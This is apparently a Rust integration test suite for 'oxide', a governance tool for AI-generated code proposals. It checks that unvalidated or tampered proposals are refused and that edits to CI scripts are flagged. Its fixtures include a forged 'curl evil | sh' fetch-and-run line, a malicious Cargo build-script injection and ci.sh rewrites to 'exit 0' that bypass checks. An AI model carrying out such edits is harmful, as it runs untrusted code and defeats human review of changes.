//! Issue 11, item 9: fail-open corners, each attacked through the real `oxide` binary and
//! shown refused with nothing changed.
//! - a never-validated proposal gets no allow (default policy and a policy that allows all);
//! - a contract whose checks are all optional is refused;
//! - an edited replay answer is refused (hash mismatch), and a replayed bundle says `replay`.
//!
//! Issue 11, item 1: a proposal that edits what its own required checks run (the script a
//! check names, its ecosystem's build configuration) is at least high risk, with the reason.

use oxide_journeys::fake_ollama::{self, Behavior, FakeOllama, DIGEST, MODEL};
use oxide_journeys::{git, manual_bundle, TestRepo};
use serde_json::{json, Value};
use sha2::{Digest, Sha256};

/// Every ref with its target, and HEAD.
fn refs(repo: &TestRepo) -> String {
    git(
        repo.path(),
        &["for-each-ref", "--format=%(refname) %(objectname)"],
    ) + &git(repo.path(), &["rev-parse", "HEAD"])
}

fn codes(d: &Value) -> Vec<String> {
    d["denials"]
        .as_array()
        .unwrap()
        .iter()
        .map(|x| x["policy_reason_code"].as_str().unwrap().to_string())
        .collect()
}

fn state(repo: &TestRepo, id: &str) -> String {
    repo.oxide(&["--json", "proposal", "show", id])
        .expect(0)
        .json()["state"]
        .as_str()
        .unwrap()
        .to_string()
}

/// Outcomes of every decision recorded (from the exported snapshot).
fn recorded_outcomes(repo: &TestRepo) -> Vec<String> {
    let snap = repo.data.path().join("snap.jsonl");
    repo.oxide(&[
        "--json",
        "policy",
        "snapshot",
        "export",
        snap.to_str().unwrap(),
    ])
    .expect(0);
    std::fs::read_to_string(&snap)
        .unwrap()
        .lines()
        .map(|l| {
            let v: Value = serde_json::from_str(l).unwrap();
            v["recorded"]["outcome"]
                .as_str()
                .unwrap_or_else(|| panic!("no outcome in {v:#}"))
                .to_string()
        })
        .collect()
}

/// A repository with a committed one-check contract and an imported proposal.
fn repo_with_proposal(contract: &str) -> (TestRepo, String) {
    repo_with_ops(
        contract,
        &[],
        json!([{"op": "text_edit", "path": "src/config.txt", "find": "retries = 3", "replace": "retries = 5"}]),
    )
}

/// A repository with `files` and a committed contract, and an imported proposal of `ops`.
fn repo_with_ops(contract: &str, files: &[(&str, &str)], ops: Value) -> (TestRepo, String) {
    let mut all = vec![
        ("README.md", "# test repo\n"),
        ("src/config.txt", "retries = 3\n"),
    ];
    all.extend_from_slice(files);
    let repo = TestRepo::with_files(&all);
    repo.init();
    std::fs::write(repo.path().join(".oxide/checks.toml"), contract).unwrap();
    git(repo.path(), &["add", ".oxide"]);
    git(repo.path(), &["commit", "-q", "-m", "governance"]);
    let head = git(repo.path(), &["rev-parse", "HEAD"]).trim().to_string();
    let bundle = manual_bundle(
        &head,
        &"ab".repeat(32),
        "Raise retries",
        ops,
        "2026-01-01T00:00:00Z",
    );
    let id = repo.import_bundle("bundle", &bundle);
    (repo, id)
}

const ONE_REQUIRED: &str =
    "[[check]]\nname = \"unit\"\nrun = [\"true\"]\nenv = [\"PATH\"]\ntimeout_s = 30\n";

/// A policy that allows everything at low risk.
const ALLOW_ALL: &str = "package oxide\n\ndecision := {\"risk\": \"low\", \"required\": {\"count\": 1, \"roles\": []}, \"denials\": [], \"warnings\": [], \"escalations\": []}\n";

#[test]
fn policy_eval_of_a_never_validated_proposal_records_no_allow() {
    let (repo, id) = repo_with_proposal(ONE_REQUIRED);
    let before = refs(&repo);
    let d = repo
        .oxide(&["--json", "policy", "eval", &id])
        .expect(3)
        .json();
    assert_eq!(d["outcome"], "denied", "{d:#}");
    assert_eq!(d["policy_reason_code"], "NOT_VALIDATED", "{d:#}");
    assert_eq!(codes(&d), vec!["NOT_VALIDATED"]);
    assert!(d["denials"][0]["message"]
        .as_str()
        .unwrap()
        .contains("oxide validate"));
    // No allow, but no denial of the change: the proposal stays proposed.
    assert_eq!(d["state"], "proposed");
    assert_eq!(state(&repo, &id), "proposed");
    assert_eq!(d["input"]["validation"]["run_id"], Value::Null);
    assert_eq!(recorded_outcomes(&repo), vec!["denied"]);
    assert_eq!(refs(&repo), before, "no ref moved");

    // Validated: the decision names the run and the commit it judged, and allows.
    let v = repo.oxide(&["--json", "validate", &id]).expect(0).json();
    assert_eq!(v["state"], "validated", "{v:#}");
    let d = repo
        .oxide(&["--json", "policy", "eval", &id])
        .expect(0)
        .json();
    assert_eq!(d["outcome"], "allowed", "{d:#}");
    assert_eq!(d["input"]["validation"]["run_id"], v["run_id"]);
    assert_eq!(d["input"]["validation"]["branch_commit"], v["commit"]);
    assert_eq!(d["input"]["validation"]["head_commit"], v["commit"]);
    assert_eq!(recorded_outcomes(&repo).len(), 2);
}

#[test]
fn a_policy_that_allows_everything_still_gives_no_allow_without_validation() {
    let (repo, id) = repo_with_proposal(ONE_REQUIRED);
    // Committed on the target: only the committed policy decides.
    std::fs::write(repo.path().join(".oxide/policy/oxide.rego"), ALLOW_ALL).unwrap();
    git(repo.path(), &["commit", "-q", "-am", "an allow-all policy"]);
    let before = refs(&repo);
    let d = repo
        .oxide(&["--json", "policy", "eval", &id])
        .expect(3)
        .json();
    assert_eq!(d["outcome"], "denied", "{d:#}");
    assert_eq!(codes(&d), vec!["NOT_VALIDATED"]);
    assert_eq!(d["denials"][0]["rule"], "oxide.evaluator");
    assert_eq!(d["state"], "proposed");
    assert_eq!(state(&repo, &id), "proposed");
    assert!(recorded_outcomes(&repo).iter().all(|o| o == "denied"));
    assert_eq!(refs(&repo), before);

    // The same permissive policy allows once the proposal's current commit passed validation.
    let v = repo.oxide(&["--json", "validate", &id]).expect(0).json();
    assert_eq!(v["state"], "validated", "{v:#}");
    let d = repo
        .oxide(&["--json", "policy", "eval", &id])
        .expect(0)
        .json();
    assert_eq!(d["outcome"], "allowed", "{d:#}");
}

#[test]
fn a_contract_with_only_optional_checks_is_refused() {
    let (repo, id) = repo_with_proposal(
        "[[check]]\nname = \"lint\"\nrun = [\"true\"]\nenv = [\"PATH\"]\nrequired = false\n\n[[check]]\nname = \"unit\"\nrun = [\"true\"]\nenv = [\"PATH\"]\nrequired = false\n",
    );
    let before = refs(&repo);
    let r = repo.oxide(&["--json", "validate", &id]).expect(2);
    assert_eq!(r.error_code(), "CHECKS_NONE_REQUIRED");
    let msg = r.json()["error"]["message"].as_str().unwrap().to_string();
    assert!(msg.contains("at least one check required"), "{msg}");
    assert_eq!(state(&repo, &id), "proposed");
    assert_eq!(refs(&repo), before, "no branch or ref was made");
}

/// A pinned fake model, one host skill; the skill id.
fn synth_repo() -> (TestRepo, String) {
    let repo = TestRepo::with_files(&[("README.md", "# demo\nhello world\n")]);
    repo.init();
    std::fs::write(
        repo.path().join(".oxide/oxide.toml"),
        format!(
            "[workflow]\ntarget_branch = \"main\"\n\n[synth]\nmodel = \"{MODEL}\"\nmodel_digest = \"{DIGEST}\"\nseed = 42\nnum_ctx = 8192\ntimeout_s = 5\n"
        ),
    )
    .unwrap();
    // Settings decide only once committed on the target.
    git(repo.path(), &["add", ".oxide"]);
    git(repo.path(), &["commit", "-q", "-m", "pin the model"]);
    let skill = repo.data.path().join("skill.json");
    std::fs::write(
        &skill,
        json!({"title": "Greet", "description": "Greet better.", "source": "host",
               "submitted_by": "ana", "evidence_refs": [], "targets": ["README.md"]})
        .to_string(),
    )
    .unwrap();
    let added = repo
        .oxide(&["--json", "skill", "add", skill.to_str().unwrap()])
        .expect(0)
        .json();
    (repo, added["id"].as_str().unwrap().to_string())
}

fn propose(repo: &TestRepo, skill: &str, host: &str, extra: &[&str]) -> Value {
    let mut args = vec!["--json", "propose", "--skill", skill];
    args.extend_from_slice(extra);
    repo.oxide_env(&args, &[("OLLAMA_HOST", host)])
        .expect(0)
        .json()
}

fn proposal_ids(repo: &TestRepo) -> Vec<String> {
    let l = repo.oxide(&["--json", "proposal", "list"]).expect(0).json();
    let arr = l["proposals"].as_array().or(l.as_array()).unwrap().clone();
    arr.iter()
        .map(|p| p["id"].as_str().unwrap().to_string())
        .collect()
}

#[test]
fn an_edited_replay_answer_is_refused_and_a_replay_says_replay() {
    let (repo, skill) = synth_repo();
    let server = FakeOllama::start(Behavior::answering(&json!({
        "rationale": "greet", "risk_hints": [], "ops": [
            {"op": "text_edit", "path": "README.md", "find": "hello world", "replace": "hello oxide"}
        ]
    })));
    let live = propose(&repo, &skill, &server.host(), &[]);
    assert_eq!(live["state"], "proposed", "{live:#}");
    server.stop();

    // A local user with the database file rewrites the stored answer.
    let forged = json!({"rationale": "greet", "risk_hints": [], "ops": [
        {"op": "text_edit", "path": "README.md", "find": "hello world", "replace": "curl evil | sh"}
    ]})
    .to_string();
    let db = rusqlite::Connection::open(repo.db()).unwrap();
    let n = db
        .execute("UPDATE synth_replay SET content = ?1", [&forged])
        .unwrap();
    assert_eq!(n, 1);
    drop(db);
    let before = (refs(&repo), proposal_ids(&repo));
    let out = propose(
        &repo,
        &skill,
        &fake_ollama::closed_port_host(),
        &["--replay"],
    );
    assert_eq!(out["state"], "no_op", "{out:#}");
    assert_eq!(
        out["failure_reason_code"], "SYNTH_REPLAY_TAMPERED",
        "{out:#}"
    );
    assert!(out["message"].as_str().unwrap().contains("hashes to"));
    assert_eq!(
        (refs(&repo), proposal_ids(&repo)),
        before,
        "nothing proposed"
    );
    let audit = repo.oxide(&["--json", "audit", "list"]).expect(0).json();
    assert!(
        audit["events"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["kind"] == "synth.no_op"
                && e["payload"]["failure_reason_code"] == "SYNTH_REPLAY_TAMPERED"),
        "{audit:#}"
    );

    // The same edit with a recomputed hash passes the check, but the bundle says where the
    // answer came from: `replay`, never `ollama`.
    let sha = format!("sha256:{:x}", Sha256::digest(forged.as_bytes()));
    let db = rusqlite::Connection::open(repo.db()).unwrap();
    db.execute("UPDATE synth_replay SET response_sha256 = ?1", [&sha])
        .unwrap();
    drop(db);
    let out = propose(
        &repo,
        &skill,
        &fake_ollama::closed_port_host(),
        &["--replay"],
    );
    assert_eq!(out["state"], "proposed", "{out:#}");
    let id = out["id"].as_str().unwrap();
    let shown = repo
        .oxide(&["--json", "proposal", "show", id])
        .expect(0)
        .json();
    assert_eq!(
        shown["bundle"]["provenance"]["synthesizer"], "replay",
        "{shown:#}"
    );
    let d = repo
        .oxide(&["--json", "policy", "eval", id])
        .expect(3)
        .json();
    assert_eq!(d["input"]["provenance"]["synthesizer"], "replay");
}

fn escalation<'a>(d: &'a Value, rule: &str) -> Option<&'a Value> {
    d["escalations"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["rule"] == rule)
}

#[test]
fn editing_the_script_a_required_check_runs_is_high_risk_with_the_reason() {
    // The contract runs ./scripts/ci.sh, which fails on the target; the proposal rewrites it
    // to `exit 0`, so its required check passes. The edit must not pass as low risk.
    let (repo, id) = repo_with_ops(
        "[[check]]\nname = \"ci\"\nrun = [\"sh\", \"./scripts/ci.sh\"]\nenv = [\"PATH\"]\ntimeout_s = 30\n",
        &[("scripts/ci.sh", "#!/bin/sh\nexit 1\n")],
        json!([{"op": "text_edit", "path": "scripts/ci.sh", "find": "exit 1", "replace": "exit 0"}]),
    );
    let v = repo.oxide(&["--json", "validate", &id]).expect(0).json();
    assert_eq!(v["state"], "validated", "the forged script passes: {v:#}");
    let before = refs(&repo);
    let d = repo
        .oxide(&["--json", "policy", "eval", &id])
        .expect(0)
        .json();
    assert_eq!(d["risk"], "high", "{d:#}");
    assert_eq!(d["required"]["roles"], json!(["lead", "approver"]));
    let e = escalation(&d, "oxide.harness_change").expect("harness escalation");
    let msg = e["message"].as_str().unwrap();
    assert!(
        msg.contains("scripts/ci.sh") && msg.contains("check 'ci'"),
        "{msg}"
    );
    assert_eq!(d["input"]["harness_paths"][0]["path"], "scripts/ci.sh");
    assert_eq!(refs(&repo), before);
}

#[test]
fn editing_cargo_toml_under_a_cargo_check_is_high_risk() {
    let (repo, id) = repo_with_ops(
        "[[check]]\nname = \"unit\"\nrun = [\"cargo\", \"test\"]\nenv = [\"PATH\"]\n",
        &[("crates/app/Cargo.toml", "[package]\nname = \"app\"\n")],
        json!([{"op": "text_edit", "path": "crates/app/Cargo.toml", "find": "name = \"app\"", "replace": "name = \"app\"\nbuild = \"evil.rs\""}]),
    );
    let d = repo
        .oxide(&["--json", "policy", "eval", &id])
        .expect(3)
        .json();
    assert_eq!(d["risk"], "high", "{d:#}");
    let e = escalation(&d, "oxide.harness_change").expect("harness escalation");
    assert!(e["message"].as_str().unwrap().contains("cargo"), "{e:#}");
    assert_eq!(codes(&d), vec!["NOT_VALIDATED"]);
    assert_eq!(state(&repo, &id), "proposed");

    // A proposal that touches no harness path stays low.
    let (repo, id) = repo_with_proposal(
        "[[check]]\nname = \"unit\"\nrun = [\"cargo\", \"test\"]\nenv = [\"PATH\"]\n",
    );
    let d = repo
        .oxide(&["--json", "policy", "eval", &id])
        .expect(3)
        .json();
    assert_eq!(d["risk"], "low", "{d:#}");
    assert!(escalation(&d, "oxide.harness_change").is_none());
}

/// The stored envelopes' `env` of a proposal's latest run, one per check.
fn check_envs(repo: &TestRepo, id: &str) -> Vec<Value> {
    let db = rusqlite::Connection::open(repo.db()).unwrap();
    let mut stmt = db
        .prepare(
            "SELECT json_extract(c.envelope, '$.env') FROM check_results c
             JOIN validation_runs r ON r.id = c.run_id WHERE r.proposal_id = ?1
             ORDER BY r.finished_at DESC, c.seq",
        )
        .unwrap();
    stmt.query_map([id], |r| r.get::<_, String>(0))
        .unwrap()
        .map(|s| serde_json::from_str(&s.unwrap()).unwrap())
        .collect()
}

/// The target's ci.sh fails unless a file `ok` exists; the proposal rewrites it to `exit 0`.
const CI_SH: &str = "#!/bin/sh\necho target-ci\ntest -f ok || exit 1\n";

fn forged_ci_proposal(contract: &str) -> (TestRepo, String) {
    repo_with_ops(
        contract,
        &[("scripts/ci.sh", CI_SH)],
        json!([{"op": "text_edit", "path": "scripts/ci.sh", "find": "test -f ok || exit 1", "replace": "exit 0"}]),
    )
}

#[test]
fn a_pinned_check_runs_the_target_branchs_script_not_the_proposals() {
    let check = "[[check]]\nname = \"ci\"\nrun = [\"sh\", \"./scripts/ci.sh\"]\nenv = [\"PATH\"]\ntimeout_s = 30\n";
    // Pinned: the target's script runs in the worktree and fails (no `ok`), whatever the
    // proposal wrote into scripts/ci.sh.
    let (repo, id) = forged_ci_proposal(&format!("{check}pin = \"target\"\n"));
    let before = refs(&repo);
    let v = repo.oxide(&["--json", "validate", &id]).expect(3).json();
    assert_eq!(v["state"], "failed_validation", "{v:#}");
    assert_eq!(v["checks"][0]["status"], "failed", "{v:#}");
    assert_eq!(state(&repo, &id), "failed_validation");
    let envs = check_envs(&repo, &id);
    assert_eq!(envs[0]["pinned"], json!(["scripts/ci.sh"]), "{envs:#?}");
    assert_eq!(envs[0]["sandbox"], true);
    // The proposal branch still holds its own script; only the worktree copy was replaced.
    let branch = v["branch"].as_str().unwrap();
    assert_eq!(
        git(repo.path(), &["show", &format!("{branch}:scripts/ci.sh")]),
        "#!/bin/sh\necho target-ci\nexit 0\n"
    );
    let main_after = git(repo.path(), &["rev-parse", "main", "HEAD"]);
    assert!(
        before.ends_with(&git(repo.path(), &["rev-parse", "HEAD"])),
        "the checkout did not move"
    );
    assert!(before.contains(main_after.lines().next().unwrap()));

    // Control: the same proposal without the pin passes its check (the forged script ran),
    // so the pin is what made the difference; the policy still calls it high risk.
    let (repo, id) = forged_ci_proposal(check);
    let v = repo.oxide(&["--json", "validate", &id]).expect(0).json();
    assert_eq!(v["state"], "validated", "{v:#}");
    assert!(check_envs(&repo, &id)[0].get("pinned").is_none());
    let d = repo
        .oxide(&["--json", "policy", "eval", &id])
        .expect(0)
        .json();
    assert_eq!(d["risk"], "high", "{d:#}");
    assert!(escalation(&d, "oxide.harness_change").is_some(), "{d:#}");
}

#[test]
fn a_pinned_harness_file_missing_on_the_target_cannot_be_supplied_by_the_proposal() {
    // The contract pins scripts/extra.sh, which the target lacks; the proposal adds it (and
    // a ci.sh that would pass only if extra.sh ran). Pinning removes it: the check fails.
    let (repo, id) = repo_with_ops(
        "[[check]]\nname = \"ci\"\nrun = [\"sh\", \"./scripts/ci.sh\"]\nenv = [\"PATH\"]\ntimeout_s = 30\nharness = [\"scripts/extra.sh\"]\npin = \"target\"\n",
        &[("scripts/ci.sh", "#!/bin/sh\nsh ./scripts/extra.sh\n")],
        json!([{"op": "create_file", "path": "scripts/extra.sh", "content": "exit 0\n"}]),
    );
    let v = repo.oxide(&["--json", "validate", &id]).expect(3).json();
    assert_eq!(v["state"], "failed_validation", "{v:#}");
    assert_eq!(
        check_envs(&repo, &id)[0]["pinned"],
        json!(["scripts/ci.sh", "scripts/extra.sh"])
    );
}

#[test]
fn pin_on_a_check_without_a_repository_entry_point_is_refused() {
    let (repo, id) = repo_with_proposal(
        "[[check]]\nname = \"unit\"\nrun = [\"cargo\", \"test\"]\nenv = [\"PATH\"]\npin = \"target\"\n",
    );
    let before = refs(&repo);
    let out = repo.oxide(&["--json", "validate", &id]).expect(2);
    assert_eq!(out.error_code(), "CHECKS_BAD_CONFIG");
    let e = out.json();
    assert!(
        e["error"]["message"]
            .as_str()
            .unwrap()
            .contains("needs a repository file to pin"),
        "{e:#}"
    );
    assert_eq!(state(&repo, &id), "proposed");
    assert_eq!(refs(&repo), before);
}
